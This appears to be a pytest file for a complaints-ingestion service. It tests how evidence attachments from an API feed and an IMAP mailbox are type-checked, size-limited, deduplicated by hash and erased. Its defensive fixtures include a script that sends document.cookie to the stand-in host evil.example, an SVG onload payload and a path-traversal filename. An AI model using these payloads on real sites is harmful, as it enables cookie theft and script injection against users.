"""Evidence that comes with complaints, through the real connectors (the loopback API server, dovecot): files are
checked by their content, stored once by hash, linked to their complaint, rejected ones recorded with the reason
while the complaint is still stored, and a re-read of the same records adds nothing (SQLite and PostgreSQL)."""

from __future__ import annotations

import base64
import hashlib
import json
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlalchemy import select

from complaints.core.config import AppConfig, AttachmentLimits
from complaints.core.db import session_scope
from complaints.core.evidence import evidence_file
from complaints.core.models import Complaint, ComplaintAttachment
from complaints.ingest.store import IngestSummary, ingest_source
from complaints.regulatory.forget import forget
from tests.ingest.test_sources_api import RECORDS, T0, Api, api, spec  # noqa: F401  (the fixture)
from tests.ingest.test_sources_imap import Mailbox, dovecot, mailbox  # noqa: F401  (fixtures)
from tests.ingest.test_sources_imap import spec as imap_spec

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
HTML = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
EXE = b"MZ\x90\x00" + bytes(200)
LIMITS = AttachmentLimits(max_file_bytes=150, max_complaint_bytes=200, max_files=3)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _cfg(cfg: AppConfig) -> AppConfig:
    return cfg.model_copy(update={"sources": cfg.sources.model_copy(update={"attachments": LIMITS})})


def _rows(db_url: str) -> list[tuple[str, str, str | None, str | None, str, str | None]]:
    with session_scope(db_url) as s:
        return [(c.external_id, a.file_name, a.declared_type, a.sniffed_type, a.status, a.rejected) for a, c in
                s.execute(select(ComplaintAttachment, Complaint).join(Complaint)
                          .order_by(Complaint.external_id, ComplaintAttachment.id)).all()]


def _stored_files(root: Path) -> set[str]:
    return {p.name for p in root.rglob("*") if p.is_file()}


def test_api_record_files(db_url: str, app_config: AppConfig, api: tuple[Api, str],  # noqa: F811
                          tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PARTNER_TOKEN", "s3cret")
    server, url = api
    first = {**RECORDS[0], "files": [
        {"filename": "../../etc/收据.pdf", "content_type": "application/pdf", "content": _b64(PDF)},
        {"filename": "screen.png", "content_type": "image/png", "content": _b64(HTML)},  # markup posing as PNG
        {"filename": "receipt.jpg", "content_type": "image/jpeg", "content": _b64(EXE)},  # too big, and an .exe
        {"filename": "broken.png", "content_type": "image/png", "content": "%%% not base64 %%%"},
        {"filename": "shot.png", "content_type": "IMAGE/PNG; name=shot.png", "content": _b64(PNG)},
        # Within the per-file limit, but the complaint's files would pass 200 bytes together.
        {"filename": "again.pdf", "content_type": "application/pdf", "content": _b64(PDF + b"\n" * 74)},
    ]}
    # Another person's complaint with the same PDF, and one with no files at all.
    second = {**RECORDS[1], "files": [{"filename": "copy.pdf", "content_type": "application/pdf",
                                        "content": _b64(PDF)}]}
    server.records = [first, second, RECORDS[2]]
    cfg, root = _cfg(app_config), tmp_path / "evidence"
    source = spec(url, attachments_field="files")

    def run(**kw: object) -> IngestSummary:
        with session_scope(db_url) as s:
            return ingest_source(s, cfg, source, "k", evidence_dir=root, **kw)  # type: ignore[arg-type]

    result = run()
    assert (result.inserted, result.quarantined) == (3, 0)  # every complaint stored, whatever its files
    assert (result.attachments_stored, result.attachments_rejected) == (3, 4)
    assert result.attachment_reasons == {"type": 1, "size": 2, "unreadable": 1}
    assert _rows(db_url) == [
        ("A0", "收据.pdf", "application/pdf", "application/pdf", "stored", None),
        ("A0", "screen.png", "image/png", "text/html", "rejected", "type"),
        ("A0", "receipt.jpg", "image/jpeg", None, "rejected", "size"),  # too big to decode: never read
        ("A0", "broken.png", "image/png", None, "rejected", "unreadable"),
        ("A0", "shot.png", "image/png", "image/png", "stored", None),
        ("A0", "again.pdf", "application/pdf", "application/pdf", "rejected", "size"),
        ("A1", "copy.pdf", "application/pdf", "application/pdf", "stored", None),
    ]
    pdf_sha, png_sha = hashlib.sha256(PDF).hexdigest(), hashlib.sha256(PNG).hexdigest()
    assert _stored_files(root) == {pdf_sha, png_sha}  # the PDF of two complaints is one file; nothing rejected
    assert evidence_file(root, pdf_sha).read_bytes() == PDF
    with session_scope(db_url) as s:
        raw = json.dumps([c.raw for c in s.scalars(select(Complaint))])
        assert "files" not in raw and _b64(PDF) not in raw  # the content is evidence, not the raw record
        reasons = set(s.scalars(select(ComplaintAttachment.reason).where(ComplaintAttachment.reason.is_not(None))))
    assert "type: content is text/html (declared image/png)" in " ".join(reasons)

    # The same records read again (a backfill from the start): nothing new, nothing doubled.
    again = run(since=T0)
    assert (again.unchanged, again.attachments_stored, again.attachments_rejected) == (3, 0, 0)
    assert len(_rows(db_url)) == 7 and _stored_files(root) == {pdf_sha, png_sha}

    # Erased on request, then read again: the files are not stored or linked again.
    with session_scope(db_url) as s:
        forget(s, "u0@example.com", pii_key="k", outbox_dir=tmp_path, marker="[purged]", evidence_dir=root)
    again = run(since=T0)
    assert (again.unchanged, again.anonymised, again.attachments_stored, again.attachments_rejected) == (2, 1, 0, 0)
    assert [r[0] for r in _rows(db_url)] == ["A1"] and _stored_files(root) == {pdf_sha}


def test_mail_attachments(db_url: str, app_config: AppConfig, mailbox: Mailbox, tmp_path: Path) -> None:  # noqa: F811
    msg = EmailMessage()
    msg["From"] = "li.na@example.com"
    msg["To"] = "complaints@wallet.example"
    msg["Subject"] = "提现失败，附上截图"
    msg["Date"] = "Mon, 16 Nov 2026 09:30:00 +0800"
    msg["Message-ID"] = "<evidence-1@example.com>"
    msg.set_content("提现 800 元失败，余额被扣，截图和回单见附件。")
    msg.add_attachment(PNG, maintype="image", subtype="png", filename="截图.png")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="回单.pdf")
    msg.add_attachment(b'<svg onload="alert(1)"/>', maintype="image", subtype="svg+xml", filename="x.svg")
    msg.add_attachment(PNG * 5, maintype="image", subtype="png", filename="big.png")  # over 150 bytes: not decoded
    mailbox.append(msg.as_bytes())
    root = tmp_path / "evidence"
    with session_scope(db_url) as s:
        first = ingest_source(s, _cfg(app_config), imap_spec(mailbox), "k", evidence_dir=root)
    assert (first.inserted, first.attachments_stored, first.attachments_rejected) == (1, 2, 2)
    assert [r[1:] for r in _rows(db_url)] == [
        ("截图.png", "image/png", "image/png", "stored", None),
        ("回单.pdf", "application/pdf", "application/pdf", "stored", None),
        ("x.svg", "image/svg+xml", "image/svg+xml", "rejected", "type"),
        ("big.png", "image/png", None, "rejected", "size"),
    ]
    with session_scope(db_url) as s:
        body = s.execute(select(Complaint.body)).scalar_one()
        assert body == "提现 800 元失败，余额被扣，截图和回单见附件。"  # the files are not in the text
    # Read again (a backfill searches seen messages too): the same files, recorded once.
    with session_scope(db_url) as s:
        again = ingest_source(s, _cfg(app_config), imap_spec(mailbox), "k", evidence_dir=root,
                              since=datetime(2026, 11, 16, tzinfo=UTC), until=datetime(2026, 11, 17, tzinfo=UTC))
    assert (again.unchanged, again.attachments_stored, again.attachments_rejected) == (1, 0, 0)
    assert len(_rows(db_url)) == 4 and len(_stored_files(root)) == 2

